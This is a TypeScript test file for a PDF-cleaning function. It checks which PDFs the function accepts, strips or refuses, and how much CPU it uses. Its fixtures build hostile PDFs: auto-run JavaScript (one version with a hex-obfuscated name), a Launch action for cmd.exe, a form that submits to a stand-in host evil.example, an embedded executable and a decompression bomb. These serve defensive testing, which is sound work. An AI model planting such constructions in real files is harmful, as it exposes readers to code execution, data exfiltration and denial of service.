import { readFileSync } from 'node:fs'
import { deflateSync, inflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import {
  contentBombs,
  costlyKinds,
  drawingBombs,
  honestFiles,
  hostileFiles,
  pageText,
  runningKinds,
} from '#tests/support/fakes/pdf-corpus.ts'
import { blankPage, blankPageWith, pdfFile, pdfStream } from '#tests/support/fakes/pdf-file.ts'
import { cleanPdfInWorker } from './clean-in-worker.ts'
import { cleanPdf } from './clean-pdf.ts'

// `npm run test:hostile` shows the kept files to three readers of others.
const fileOf = (name: string) => readFileSync(new URL(`../../../../tests/support/files/${name}`, import.meta.url))
const verdict = (bytes: Buffer) => {
  const clean = cleanPdf(bytes)
  return typeof clean === 'string' ? clean : 'taken'
}

describe('takes', () => {
  it.each([
    'bill-with-web-link.pdf',
    'chrome-bill.pdf',
    'startxref-off-by-one.pdf',
    'trailing-nuls-4096.pdf',
    'junk-before-header.pdf',
  ])('%s', (name) => {
    const clean = cleanPdf(fileOf(name))
    if (typeof clean === 'string') expect.fail(clean)
    expect(clean.includes('/URI')).toBe(false)
    expect(clean.includes('/Annots')).toBe(false)
    expect(verdict(clean)).toBe('taken')
  })

  it.each([
    ['an empty field', filledField('/V()')],
    ['a field without a text', filledField('')],
    ['a field that nobody sees', filledField('/F 2/V(token)')],
  ])('%s', (_, bytes) => {
    expect(verdict(bytes)).toBe('taken')
  })

  it('a file from which every script was deleted', () => {
    const scripts = pdfFile([...blankPageWith('/OpenAction 5 0 R'), '<<>>', script])
    expect(verdict(without(scripts, 4, 1))).toBe('file_pdf_active')
    expect(verdict(without(scripts, 4, 2))).toBe('taken')
  })

  it('a page that draws a large drawing once and a small one thousands of times', () => {
    const form = (data: string) => pdfStream('/Type/XObject/Subtype/Form/BBox[0 0 9 9]', Buffer.from(data))
    const map = pdfFile([
      blankPage[0] ?? '',
      blankPage[1] ?? '',
      '<</Type/Page/Parent 2 0 R/Resources<</XObject<</Map 5 0 R/Dot 6 0 R>>>>/Contents 4 0 R>>',
      pdfStream('', Buffer.from(`/Map Do ${'/Dot Do '.repeat(5_000)}`)),
      form('0 0 9 9 re f '.repeat(80_000)),
      form('0 0 1 1 re f'),
    ])
    expect(verdict(map)).toBe('taken')
  })

  it('each honest file of the corpus', () => {
    expect(honestFiles().filter(({ bytes }) => verdict(bytes) !== 'taken')).toEqual([])
  })
})

/** The streams of a file of ours, unpacked, behind the file. */
function openedUp(clean: Buffer): string {
  const file = clean.toString('latin1')
  const streams = [...file.matchAll(/\/Filter \/FlateDecode\/Length (\d+)>>\nstream\n/g)].map((match) => {
    const start = match.index + match[0].length
    return inflateSync(clean.subarray(start, start + Number(match[1]))).toString('latin1')
  })
  return [file, ...streams].join('\n')
}

describe('keeps', () => {
  it('the words of each honest file, whatever packs them', () => {
    const lost = honestFiles().filter(({ bytes }) => {
      const clean = cleanPdf(bytes)
      return typeof clean === 'string' || !openedUp(clean).includes(pageText)
    })
    expect(lost.map(({ name }) => name)).toEqual([])
  })

  it.each(Object.entries(runningKinds))('nothing of %s', (_, bytes) => {
    const clean = cleanPdf(bytes)
    if (typeof clean === 'string') expect.fail(clean)
    expect(openedUp(clean)).not.toMatch(/PS|run|javascript|302930|72756e/)
  })
})

/** A page with a field that has no drawing, and object 5: the field above it. */
const filledField = (more: string) =>
  pdfFile([
    blankPage[0] ?? '',
    blankPage[1] ?? '',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>',
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(nome)/Rect[10 10 90 30]${more}>>`,
    '<</FT/Tx/T(pessoa)/V(Maria)>>',
  ])

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
/** A newer table behind a file, which calls `count` objects from `first` on free. */
function without(file: Buffer, first: number, count: number): Buffer {
  const older = /startxref\n(\d+)/.exec(file.toString('latin1'))?.[1]
  const lines = '0000000000 00001 f \n'.repeat(count)
  const trailer = `<</Size 9/Root 1 0 R/Prev ${older}>>`
  const table = `xref\n${first} ${count}\n${lines}trailer\n${trailer}\nstartxref\n${file.length}\n%%EOF\n`
  return Buffer.concat([file, Buffer.from(table)])
}
const bomb = deflateSync(Buffer.alloc(100 * 1024 * 1024))

describe('refuses', () => {
  it.each([
    ['a script', pdfFile([...blankPageWith('/OpenAction 4 0 R'), script]), 'file_pdf_active'],
    [
      'a script behind numbers for letters',
      pdfFile([...blankPage, '<</S/#4aava#53cript/#4AS 4 0 R>>']),
      'file_pdf_active',
    ],
    ['a program to start', pdfFile([...blankPage, '<</S/Launch/F(cmd.exe)>>']), 'file_pdf_active'],
    [
      'a form that sends itself',
      pdfFile([...blankPage, '<</S/SubmitForm/F(https://evil.example)>>']),
      'file_pdf_active',
    ],
    [
      'a program in it',
      pdfFile([...blankPage, '<</Type/Filespec/UF(\xfe\xff\0a\0.\0e\0x\0e)/EF<</F 6 0 R>>>>']),
      'file_pdf_active',
    ],
    ['a password', pdfFile(blankPage, '/Encrypt<</Filter/Standard/V 4>>'), 'file_pdf_protected'],
    [
      'a page that fills the memory',
      pdfFile([
        blankPage[0] ?? '',
        blankPage[1] ?? '',
        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
        pdfStream('/Filter/FlateDecode', bomb),
      ]),
      'file_pdf_too_complex',
    ],
    ['a field whose text the reader has to draw', filledField('/V(Maria)'), 'file_pdf_undrawn'],
    ['a field whose text stands in the field above it', filledField('/Parent 5 0 R'), 'file_pdf_undrawn'],
    ['no pages', pdfFile(['<</Type/Catalog>>']), 'file_damaged'],
    ['a page whose contents were cut off', fileOf('bill-with-web-link.pdf').subarray(0, 420), 'file_damaged'],
    ['nothing', Buffer.alloc(0), 'file_damaged'],
  ])('%s', (_, bytes, problem) => {
    expect(verdict(bytes)).toBe(problem)
  })

  it.each([...contentBombs(), ...drawingBombs()])('$name', ({ bytes }) => {
    expect(verdict(bytes)).toBe('file_pdf_too_complex')
  })

  it('what each hostile file of the corpus does in the open', () => {
    const open = hostileFiles().filter(({ name }) =>
      /, (?:in the open|packed|letters as numbers|in the second table)$/.test(name),
    )
    expect(open.length).toBeGreaterThan(40)
    expect(open.filter(({ bytes }) => verdict(bytes) !== 'file_pdf_active').map(({ name }) => name)).toEqual([])
  })
})

describe('costs no more than a file of its size may', () => {
  const cost = (bytes: Buffer) => {
    const before = process.cpuUsage()
    cleanPdf(bytes)
    const { user, system } = process.cpuUsage(before)
    return (user + system) / 1_000
  }

  it.each(Object.entries(costlyKinds))('%s', (_, make) => {
    const [small, large] = [600_000, 4_800_000].map((size) => {
      const bytes = make(size)
      return Math.min(cost(bytes), cost(bytes))
    }) as [number, number]
    // Eight times the bytes: linear work takes eight times as long, and quadratic work 64 times.
    expect(large).toBeLessThan(Math.max(20 * small, 150))
    expect(large).toBeLessThan(1_500)
  })
})

describe('in a thread of its own', () => {
  const log = { warn: () => {} }

  it('gives the same file', async () => {
    const bill = fileOf('chrome-bill.pdf')
    expect(Buffer.from((await cleanPdfInWorker(bill, log)) as Uint8Array)).toEqual(cleanPdf(bill))
    expect(await cleanPdfInWorker(pdfFile([...blankPage, script]), log)).toBe('file_pdf_active')
  })
})
